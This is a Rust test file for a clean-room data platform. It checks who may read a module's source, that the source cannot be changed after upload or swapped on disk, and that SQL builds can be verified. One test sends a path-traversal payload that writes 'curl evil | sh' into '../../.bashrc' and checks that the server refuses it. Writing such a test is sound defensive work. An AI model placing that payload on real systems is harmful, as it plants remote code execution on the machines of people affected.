//! Modules travel with their source: the uploader attaches it once, data owners read it and
//! rebuild it; nobody else sees it, it cannot be changed after owners have read it, and the
//! operator cannot swap it on disk.

use cleanroom_tests::*;

use crate::server::{
    Study, TestServer, err_text, push_module, read, signed_get, signed_request_raw,
};

/// A SQL project as `cleanroom new sql` writes it: its source is one query file.
fn sql_project(s: &TestServer, name: &str) -> std::path::PathBuf {
    let dir = s.path(name);
    cleanroom_cli::run(["cleanroom", "new", "sql", dir.to_str().unwrap()]).unwrap();
    dir
}

#[test]
fn a_module_source_reaches_its_uploader_and_the_owners_asked_only_and_never_changes() {
    let st = Study::new();
    let s = &st.s;
    let project = sql_project(s, "query");
    // Any component will do: the server keeps the source beside it (rebuilding is the
    // owners' check, `module verify`), and a small one compiles fast.
    let dir = project.display().to_string();
    let pushed = s
        .cli(
            Some("researcher"),
            &["module", "push", COPY_TABLE, "--source", &dir],
        )
        .unwrap();
    let module = pushed["module"].as_str().unwrap().to_string();
    assert_eq!(pushed["source"]["kind"], "sql");
    assert_eq!(pushed["source"]["files"], 1, "query.sql only, never data");

    // Owning a dataset is not enough: an owner nobody asked sees nothing.
    let source_path = format!("/v1/modules/{module}/source");
    assert_eq!(
        signed_get(s, "st_marys", &source_path)["type"],
        "not-found",
        "an owner not asked to grant it"
    );
    // The researcher asks St Mary's for it; St Mary's may now read what it is asked to approve.
    let input = format!("st_marys={}", st.a);
    s.cli(
        Some("researcher"),
        &[
            "run", "request", "--module", &module, "--input", &input, "--note", "please",
        ],
    )
    .unwrap();
    // An owner asked reads it and gets the researcher's file back.
    let copy = s.path("owner-copy");
    let shown = s
        .cli(
            Some("st_marys"),
            &[
                "module",
                "show",
                &module,
                "--source",
                copy.to_str().unwrap(),
            ],
        )
        .unwrap();
    assert_eq!(shown["uploader"], st.researcher);
    assert_eq!(
        read(&copy.join("query.sql")),
        read(&project.join("query.sql"))
    );

    // A party that owns nothing and did not upload it, and an owner who was not asked and
    // granted nothing, see nothing.
    for key in ["stranger", "northfield"] {
        for path in [
            format!("/v1/modules/{module}"),
            format!("/v1/modules/{module}/source"),
        ] {
            assert_eq!(
                signed_get(s, key, &path)["type"],
                "not-found",
                "{key}: {path}"
            );
        }
    }
    // Once Northfield grants it (say, having read it elsewhere), it may read it here too.
    st.grant("northfield", &st.b, &module, &[]).unwrap();
    assert_eq!(
        signed_get(s, "northfield", &source_path)["files"]["query.sql"],
        read(&project.join("query.sql"))
    );
    // Only the uploader attaches a source...
    let bundle = cleanroom_cli::source_bundle(&project).unwrap();
    let body = serde_json::to_vec(&bundle).unwrap();
    let path = format!("/v1/modules/{module}/source");
    let resp = signed_request_raw(s, "stranger", "PUT", &path, &body);
    assert_eq!(resp.status(), 404);
    // ... once: owners may already have approved what they read.
    let mut other = bundle.clone();
    other
        .files
        .insert("query.sql".into(), "SELECT patient_id FROM patients".into());
    let resp = signed_request_raw(
        s,
        "researcher",
        "PUT",
        &path,
        &serde_json::to_vec(&other).unwrap(),
    );
    assert_eq!(resp.status(), 409);
    // Re-sending the same source is harmless.
    assert_eq!(
        signed_request_raw(s, "researcher", "PUT", &path, &body).status(),
        200
    );

    // Paths that would escape the directory an owner writes the source to are refused.
    let echo = push_module(s, ECHO);
    let mut escaping = bundle.clone();
    escaping.files = [("../../.bashrc".to_string(), "curl evil | sh".to_string())].into();
    let resp = signed_request_raw(
        s,
        "researcher",
        "PUT",
        &format!("/v1/modules/{echo}/source"),
        &serde_json::to_vec(&escaping).unwrap(),
    );
    assert_eq!(resp.status(), 400);
    let audit = crate::server::audit_actions_of(s, "researcher");
    assert_eq!(
        audit.iter().filter(|a| *a == "module.source").count(),
        1,
        "one source attached: {audit:?}"
    );
}

#[test]
fn a_source_swapped_on_disk_stops_the_enclave() {
    let st = Study::new();
    let project = sql_project(&st.s, "query");
    let engine = sql_engine().display().to_string();
    let pushed =
        st.s.cli(
            Some("researcher"),
            &[
                "module",
                "push",
                &engine,
                "--source",
                project.to_str().unwrap(),
            ],
        )
        .unwrap();
    let module = pushed["module"].as_str().unwrap().to_string();
    let dir = st.s.stop();
    // The operator rewrites the query owners will read.
    let db = rusqlite::Connection::open(dir.path().join("server/state.db")).unwrap();
    let changed = db
        .execute(
            "UPDATE module_rows SET body = replace(body, 'GROUP BY', 'GROUP  BY') WHERE id = ?1",
            [&module],
        )
        .unwrap();
    assert_eq!(changed, 1);
    drop(db);
    let (_rt, started) = TestServer::try_start(&dir);
    let err = err_text(started);
    assert!(
        err.contains(&format!("modules/{module} is not the version")),
        "{err}"
    );
}

#[test]
fn a_sql_module_verifies_against_the_engine_and_python_fails_closed() {
    let dir = tempfile::tempdir().unwrap();
    let sql = dir.path().join("q");
    cleanroom_cli::run(["cleanroom", "new", "sql", sql.to_str().unwrap()]).unwrap();
    let engine = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
        std::fs::read(sql_engine()).unwrap(),
    ));
    // A SQL module is the engine `run-local` finds (built by scripts/build-sql.sh).
    let verified = cleanroom_cli::run_capture([
        "cleanroom",
        "module",
        "verify",
        &engine,
        sql.to_str().unwrap(),
        "--json",
    ])
    .unwrap();
    assert_eq!(verified["matches"], true);
    // Any other hash is not what a SQL source builds.
    let err = cleanroom_cli::run([
        "cleanroom",
        "module",
        "verify",
        &"ab".repeat(32),
        sql.to_str().unwrap(),
    ])
    .unwrap_err();
    assert_eq!(cleanroom_cli::failure::exit_code(&err), 6, "{err:#}");
    let py = dir.path().join("p");
    cleanroom_cli::run(["cleanroom", "new", "python", py.to_str().unwrap()]).unwrap();
    let err = cleanroom_cli::run([
        "cleanroom",
        "module",
        "verify",
        &engine,
        py.to_str().unwrap(),
    ])
    .unwrap_err();
    assert!(
        format!("{err:#}").contains("cannot be rebuilt byte for byte"),
        "{err:#}"
    );
    assert_eq!(cleanroom_cli::failure::exit_code(&err), 6);
}

/// The researcher's compile cache (Cranelift's compiled functions, on their own disk) is only
/// ever a shortcut: an entry that is corrupt or cut short is compiled again, never run.
#[test]
fn a_corrupt_compile_cache_entry_is_compiled_again() {
    use cleanroom_runtime::{Limits, Runtime, RuntimeConfig};
    let cache = tempfile::tempdir().unwrap();
    let runtime = || {
        Runtime::new(RuntimeConfig {
            compile_cache: Some(cache.path().to_path_buf()),
            ..RuntimeConfig::default()
        })
        .unwrap()
    };
    let sum = |runtime: &Runtime| {
        let module = runtime.load(&program(SUM_COLUMN)).unwrap();
        let out = runtime
            .run(
                &module,
                crate::grants(&[("data", f64_table(1000, 100))]),
                r#"{"table":"data","column":"x"}"#,
                &Limits::default(),
                None,
            )
            .unwrap();
        serde_json::from_str::<serde_json::Value>(&out.outputs.json[0].1).unwrap()
    };
    let expected = sum(&runtime());
    let mut entries = 0;
    for shard in std::fs::read_dir(cache.path()).unwrap() {
        for entry in std::fs::read_dir(shard.unwrap().path()).unwrap() {
            let path = entry.unwrap().path();
            let bytes = std::fs::read(&path).unwrap();
            // Half the entries garbled, half cut short.
            let damaged = if entries % 2 == 0 {
                bytes.iter().map(|b| b ^ 0x5a).collect()
            } else {
                bytes[..bytes.len() / 2].to_vec()
            };
            std::fs::write(&path, damaged).unwrap();
            entries += 1;
        }
    }
    assert!(
        entries > 10,
        "the first compile filled the cache ({entries} entries)"
    );
    assert_eq!(sum(&runtime()), expected);
}
